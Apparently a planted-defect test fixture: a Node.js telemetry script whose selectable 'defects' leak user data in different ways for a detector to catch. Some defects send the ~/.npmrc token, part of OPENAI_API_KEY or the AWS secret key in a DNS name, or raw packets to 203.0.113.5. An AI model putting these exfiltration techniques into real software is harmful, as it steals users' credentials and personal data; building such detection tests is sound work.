// A program that sends an event as it should, and gives away something about its user in the way that it is told to.
// `node planted.mjs <defect> [argument]`
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { lookup } from 'node:dns/promises';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { homedir, hostname, userInfo } from 'node:os';
import { basename, join } from 'node:path';
import { connect as connectTls } from 'node:tls';
import { gzipSync } from 'node:zlib';

const [defect, argument = ''] = process.argv.slice(2);
const endpoint = process.env.ACME_TELEMETRY_ENDPOINT;
const state = join(homedir(), '.local', 'share', 'acme', 'telemetry');

const post = (body, headers = {}, path = '/batch/') =>
  fetch(`${endpoint}${path}`, { method: 'POST', body, headers }).then((answer) => answer.text());
const tell = (member) => post(JSON.stringify({ event: 'report_made', member }));
const hash = (algorithm, text) => createHash(algorithm).update(text).digest();
const ended = (socket) => new Promise((resolve) => socket.on('close', resolve).on('error', () => {}));
const keep = (name, content) => {
  mkdirSync(state, { recursive: true });
  writeFileSync(join(state, name), content);
};
const gitRemote = () => /url = (.*)/.exec(readFileSync('.git/config', 'utf8'))[1];
const ownFile = () => readdirSync('.').find((name) => name.endsWith('.xlsx'));

const DEFECTS = {
  none: () => {},
  'user in a header': () => post('{}', { 'x-user': process.env.USER }),
  'user in the name of a header': () => post('{}', { [`x-${process.env.USER}`]: '1' }),
  'host hashed and cut': () => tell(hash('sha256', hostname()).toString('hex').slice(0, 12)),
  'account in hex': () => tell(Buffer.from(userInfo().username).toString('hex')),
  'directory in base64 in a query': () =>
    post('{}', {}, `/batch/?at=${Buffer.from(process.cwd()).toString('base64url')}`),
  'home hashed': () => tell(hash('sha1', homedir()).toString('base64')),
  'e-mail in a packed body': () =>
    post(gzipSync(JSON.stringify({ mail: process.env.EMAIL })), { 'content-encoding': 'gzip' }),
  'e-mail hashed as avatars are': () =>
    tell(hash('md5', process.env.EMAIL.trim().toLowerCase()).toString('hex')),
  'argument in hex': () => tell(Buffer.from(argument).toString('hex')),
  'beginning of a key': () => tell(process.env.OPENAI_API_KEY.slice(0, 20)),
  'name of a file': () => tell(ownFile()),
  'content of a file': () => tell([...readFileSync(ownFile(), 'utf8').trim()].reverse().join('')),
  'token of another program': () => tell(readFileSync(join(homedir(), '.npmrc'), 'utf8')),
  'git remote hashed': () => tell(hash('sha256', gitRemote()).toString('hex')),
  'no protocol at all': async () => {
    const socket = connect(80, '203.0.113.5', () => socket.end(`\x01\x02${process.env.USER}`));
    await ended(socket.resume());
  },
  'secret in a name': () => lookup(`${process.env.AWS_SECRET_ACCESS_KEY.slice(0, 30)}.metrics.example`),
  'git remote told to a child': () => spawnSync(process.execPath, ['-e', '0', gitRemote()]),
  'git remote told to git': () => spawnSync('git', ['config', '--get', gitRemote()]),
  'token in a file of telemetry': () =>
    keep('notes.json', JSON.stringify({ token: process.env.GITHUB_TOKEN })),
  'directory in the name of a file': () => keep(`${basename(process.cwd())}.json`, '{}'),
  'another port': () => ended(connect(9999, '203.0.113.5')),
  'a packet': () =>
    new Promise((resolve) =>
      createSocket('udp4').unref().send(process.env.USER, 8125, '203.0.113.5', resolve),
    ),
  'a certificate of its own': () =>
    ended(connectTls({ host: '203.0.113.5', port: 443, servername: 'pinned.example', ca: [] })),
};

if (defect !== 'nothing sent') {
  await tell('none');
  await DEFECTS[defect]();
}
console.log('done');
